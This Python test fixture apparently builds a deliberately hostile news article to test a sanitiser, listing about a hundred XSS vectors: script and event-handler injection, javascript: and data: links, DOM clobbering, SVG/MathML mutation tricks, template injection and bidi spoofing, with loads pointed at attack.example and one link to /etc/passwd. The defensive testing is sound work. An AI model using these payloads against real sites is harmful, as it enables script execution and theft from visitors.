r"""An article full of attacks: markup that wants to run, load, send, lead away or pose as something else.

Every attack that runs calls `__ran(N)`, every one that loads asks for https://attack.example/N; N is its place in
the tables.  Between each two stand words (WORD) that no attack may swallow.  The kinds are those of OWASP's lists
(XSS filter evasion, DOM clobbering) and of what sanitisers were got round by; the spelling is our own.

    Site(given=[attack.ARTICLE])    # serves it, at attack.ARTICLE.url, and lists it
    attack.at_rest(epoch)           # its article file as if nothing had ever been stripped
"""

from collections.abc import Iterable
from dataclasses import replace
from datetime import datetime

from .article import PARIS, Article, Line, Picture
from .expected import expected

HOST = "https://attack.example/"
TEXT = (
    """</title></textarea></script><script>RUN</script>'"><img src=x onerror=RUN>]]>{{7*7}}{% raw %}${RUN}<%= 7*7 %>"""
)
"""Breaks out of whatever somebody would put a text in."""
BIDI = "\u202e文反\u2066此\u202c甲\u2069乙"
"""Turns the reading direction, and does not turn it back."""

ATTACKS = {
    # scripts, wherever they may stand
    "script": "<script>RUN</script>",
    "script by address": '<SCRIPT SRC="LOAD"></SCRIPT>',
    "module": '<script type="module">import "LOAD"; RUN</script>',
    "script behind a slash": "<script/x>RUN</script>",
    "script in script": "<scr<script></script>ipt>RUN</script>",
    "script for XML": '<x:script xmlns:x="http://www.w3.org/1999/xhtml">RUN</x:script>',
    "script in SVG": "<svg><script>RUN</script></svg>",
    "script in a template": "<template><script>RUN</script></template>",
    "script in a shadow": '<div><template shadowrootmode="open"><img src=x onerror=RUN></template></div>',
    "quoted once": "&lt;script&gt;RUN&lt;/script&gt;",
    "quoted twice": "&amp;lt;img src=x onerror=RUN&amp;gt;",
    "in 7 bits": "+ADw-script+AD4-RUN+ADw-/script+AD4-",
    # handlers
    "onerror": '<img src="x" onerror="RUN">',
    "onerror without blanks": "<IMG/SRC=x/ONERROR=RUN>",
    "onerror behind quotes": '<img """><script>RUN</script>">',
    "onload": '<svg onload="RUN"></svg>',
    "onload of the page": '<body onload="RUN">',
    "onfocus": '<input autofocus onfocus="RUN"><div contenteditable tabindex=0 autofocus onfocus=RUN></div>',
    "ontoggle": '<details open ontoggle="RUN"><summary>开</summary></details>',
    "onstart": '<marquee onstart="RUN">动</marquee>',
    "onanimationstart": '<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart="RUN">动</b>',
    "onloadstart": '<video src="LOAD" poster="LOAD" autoplay onloadstart="RUN"></video>',
    "source onerror": '<video><source onerror="RUN" src="LOAD"></video><audio src="LOAD" onerror="RUN"></audio>',
    "onpointerover": '<p onpointerover="RUN" onclick="RUN" style="position:fixed;inset:0">盖</p>',
    # links and what acts like one
    "javascript:": '<a href="javascript:RUN">点</a><a href=" &#14; JaVa&#10;ScRiPt:RUN">点</a><a href="&#x6A;avascript:RUN">点</a>',
    "behind a comment": '<a href="javascript://rfi.fr/%0aRUN">点</a><a href="java&Tab;script&colon;RUN">点</a>',
    "vbscript:": '<a href="vbscript:RUN">点</a><a href="livescript:RUN">点</a><a href="feed:javascript:RUN">点</a>',
    "data:": '<a href="data:text/html,&lt;script&gt;RUN&lt;/script&gt;">点</a><a href="data:text/html;base64,PHNjcmlwdD4=">点</a>',
    "blob: and file:": '<a href="blob:https://www.rfi.fr/1">点</a><a href="file:///etc/passwd">点</a><a href="view-source:https://www.rfi.fr">点</a>',
    "ping": '<a href="https://www.rfi.fr/cn/" ping="LOAD" target="_top" rel="opener">点</a>',
    "in the picture": '<img src="javascript:RUN"><img src=`javascript:RUN`><img dynsrc="javascript:RUN" lowsrc="LOAD">',
    "map": '<img usemap="#m" src="x"><map name="m"><area shape="default" href="javascript:RUN"></map>',
    # the whole page
    "refresh": '<meta http-equiv="refresh" content="0;url=LOAD"><meta http-equiv="refresh" content="0;url=javascript:RUN">',
    "cookie": '<meta http-equiv="Set-Cookie" content="a=RUN"><meta name="referrer" content="unsafe-url">',
    "base": '<base href="https://attack.example/" target="_top">',
    "stylesheet": '<link rel="stylesheet" href="LOAD"><link rel="preload" as="image" href="LOAD"><link rel="icon" href="LOAD">',
    "prefetch": '<link rel="prefetch" href="LOAD"><link rel="dns-prefetch" href="//attack.example"><link rel="import" href="LOAD">',
    "style": '<style>@import "LOAD"; body{background:url(LOAD)}</style>',
    "style of an element": '<p style="background:url(LOAD);width:expression(RUN);behavior:url(LOAD);-moz-binding:url(LOAD)">样</p>',
    "background": '<table background="LOAD"><tr><td background="LOAD">底</td></tr></table>',
    # frames and the like
    "iframe": '<iframe src="javascript:RUN"></iframe><iframe src="LOAD"></iframe>',
    "srcdoc": '<iframe srcdoc="&lt;script&gt;parent.RUN&lt;/script&gt;"></iframe>',
    "object": '<object data="javascript:RUN"></object><object data="LOAD"><param name="src" value="LOAD"></object>',
    "embed": '<embed src="javascript:RUN"><embed src="LOAD" type="image/svg+xml">',
    "applet": '<applet code="LOAD"></applet><portal src="LOAD"></portal>',
    "frameset": '<frameset onload="RUN"><frame src="LOAD"></frameset>',
    # pictures that load
    "srcset": '<img srcset="LOAD 1x, LOAD 2x" src="LOAD" sizes="1px">',
    "picture": '<picture><source srcset="LOAD"><img src="LOAD" alt="图"></picture>',
    "input image": '<input type="image" src="LOAD">',
    "track": '<video><track src="LOAD" default></video>',
    # forms
    "form": '<form action="javascript:RUN"><input type="submit" value="交"><button formaction="javascript:RUN">交</button></form>',
    "form elsewhere": '<form id="f" action="LOAD"><input name="password" type="password" autocomplete="on"></form><button form="f">交</button>',
    # DOM clobbering
    "body": '<a id="body" name="body">名</a><form name="body"><input name="attributes"><input id="parentNode"></form>',
    "cookie by name": '<img name="cookie" src="x"><form id="getElementById"><output name="querySelector"></output></form>',
    "location": '<iframe name="location" srcdoc="x"></iframe><a id="__ran"></a><a id="__ran" name="x" href="tel:1">名</a>',
    "our own names": '<div id="q" class="search results" role="alert" aria-hidden="true" hidden slot="x">名</div>',
    # SVG and MathML, by which markup means something else when read again
    "animate": '<svg><a><animate attributeName="href" values="javascript:RUN"/><text x="9" y="9">点</text></a></svg>',
    "use": '<svg><use href="data:image/svg+xml,&lt;svg id=x xmlns=http://www.w3.org/2000/svg onload=RUN /&gt;#x"/></svg>',
    "SVG image": '<svg><image href="LOAD" onerror="RUN"/><feImage href="LOAD"/></svg>',
    "foreignObject": "<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>",
    "style in SVG": '<svg><style><img title="</style><img src=x onerror=RUN>"></style></svg>',
    "desc": '<svg><desc><noembed></desc><style><a title="</style><img src=x onerror=RUN>"></style></noembed></svg>',
    "MathML link": '<math href="javascript:RUN"><mi xlink:href="javascript:RUN">点</mi></math>',
    "maction": '<math><maction actiontype="statusline#LOAD" xlink:href="javascript:RUN">点</maction></math>',
    "annotation": '<math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></math>',
    "mglyph": '<math><mtext><table><mglyph><style><math><img title="</style><img src=x onerror=RUN>"></math></style></mglyph></table></mtext></math>',
    "form in MathML": "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN></style></mglyph></form></mtext></math></form>",
    # text that is no markup to one and markup to the other
    "noscript": '<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>',
    "textarea": '<textarea><p title="</textarea><img src=x onerror=RUN>"></textarea>',
    "title": '<title><p title="</title><img src=x onerror=RUN>"></title>',
    "xmp": '<xmp><p title="</xmp><img src=x onerror=RUN>"></xmp>',
    "noembed": '<noembed><p title="</noembed><img src=x onerror=RUN>"></noembed>',
    "noframes": '<noframes><p title="</noframes><img src=x onerror=RUN>"></noframes>',
    "select": "<select><option><style></select><img src=x onerror=RUN></style></option></select>",
    # comments
    "comment": "<!-- <img src=x onerror=RUN> -->",
    "comment that is none": "<!--><img src=x onerror=RUN>-->",
    "comment of two dashes": "<!-- --!><img src=x onerror=RUN> -->",
    "comment for one browser": "<!--[if gte IE 4]><script>RUN</script><![endif]-->",
    "CDATA": "<![CDATA[><img src=x onerror=RUN>]]>",
    "instruction": '<?xml-stylesheet href="javascript:RUN"?><?php echo 7*7 ?>',
    # templates and frameworks
    "braces": "<p>{{7*7}} {%print(7*7)%} {# x #} ${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('RUN')()}}</p>",
    "Vue": '<div v-html="RUN" v-if="RUN" @click="RUN" :href="RUN" data-on="RUN">板</div>',
    "others": '<div ng-app ng-init="RUN" x-data x-init="RUN" hx-get="LOAD" hx-trigger="load" hx-on:load="RUN">板</div>',
    # what deceives readers
    "bidi": f"<p>{BIDI} &#x202E;文反 <bdo dir=rtl>123</bdo></p>",
    "unseen": "<p>看\u200b不\U000e0041见\ufeff的</p>",
}
"""Each leaves the markup behind it as it was."""
BROKEN = {
    "never ends": "<img src=x onerror=RUN ",
    "quote never ends": '<img title="<img src=x onerror=RUN>',
    "tag in a tag": '<iframe src="LOAD" <b>',
    "comment never ends": "<!-- <img src=x onerror=RUN>",
    "script never ends": "<script>RUN;",
    "plaintext": "<plaintext><img src=x onerror=RUN>",
    "style never ends": "<svg></p><style><a title='</style><img src=x onerror=RUN>'>",
    "NUL": "<scr\0ipt>RUN</scr\0ipt><img\0 src=x onerror=RUN><a href='java\0script:RUN'>点</a>",
    "lone halves": "<img src=x alt='\ud800' onerror=RUN>\udc00",
    "attribute twice": "<img src=x src=LOAD onerror=RUN onerror=RUN><a href=/ href=javascript:RUN>点</a>",
    "all of it closed": "</p></div></article></main></body></html><img src=x onerror=RUN>",
    "form feed": "<img\fsrc=x\fonerror=RUN\f>",
}
"""These break what stands behind them, so no page holds them."""
ALL = ATTACKS | BROKEN
LOOSE = frozenset(
    (
        *("script in script", "onload of the page", "object", "frameset", "animate", "use", "SVG image", "desc"),
        *("form in MathML", "noscript", "textarea", "title", "xmp", "noembed", "noframes", "select", "comment"),
        *("comment that is none", "comment of two dashes", "comment for one browser", "CDATA", "instruction", "braces"),
    )
)
"""Attacks whose tags are not in order as FORMAT.md has it: a file that holds one verbatim is a damaged one."""
WORD = "第{}段的话没有被吞掉。"


def armed(markup: str, number: int) -> str:
    """An attack that tells which it was, when it runs or loads."""
    return markup.replace("RUN", f"__ran({number})").replace("LOAD", f"{HOST}{number}")


def number(name: str) -> int:
    """The place of an attack in the tables."""
    return list(ALL).index(name)


def _text(where: int) -> str:
    return armed(TEXT, 900 + where)


def _body(names: dict[str, str]) -> tuple[Line, ...]:
    rows = []
    for name, markup in names.items():
        rows += [armed(markup, number(name)), f"<p>{WORD.format(number(name))}</p>"]
    return tuple(Line(row, row) for row in rows)


ARTICLE = Article(
    edition="cn",
    section="国际",
    slug="attacks-\"'<svg onload=__ran(900)>",
    day=datetime(2026, 10, 29, tzinfo=PARIS).date(),
    title=f"百般攻击：{_text(1)}{BIDI}",
    published=datetime(2026, 10, 29, 21, 15, tzinfo=PARIS),
    modified=None,
    lead=Line(armed("导语<img src=x onerror=RUN><script>RUN</script>{{7*7}}", 902), "导语{{7*7}}"),
    picture=Picture("attack\"'onerror=__ran(903).jpg", f"图片说明：{_text(4)}"),
    body=_body(ATTACKS),
    generation="2025",
    after="share",
    authors=("作者&lt;script&gt;__ran(905)&lt;/script&gt;&quot;onfocus=__ran(905)", "{{7*7}}"),
    keywords=("标签&lt;img src=x onerror=__ran(906)&gt;", "&lt;/script&gt;]]&gt;", f"反{BIDI}", "&lt;!--"),
    show="",
    traits=frozenset(),
    short="zATK",
)
"""Its body says the same for page and file: what is stripped on the way, tests must not foretell but judge."""


def at_rest(epoch: int, names: Iterable[str] = ATTACKS.keys() - LOOSE) -> str:
    """The article's file with attacks in it verbatim, as if it had been written by one that strips nothing."""
    lead = Line("", "导语<img src=x onerror=__ran(902)><script>__ran(902)</script>{{7*7}}")
    return expected(replace(ARTICLE, lead=lead, body=_body({name: ALL[name] for name in ALL if name in names})), epoch)
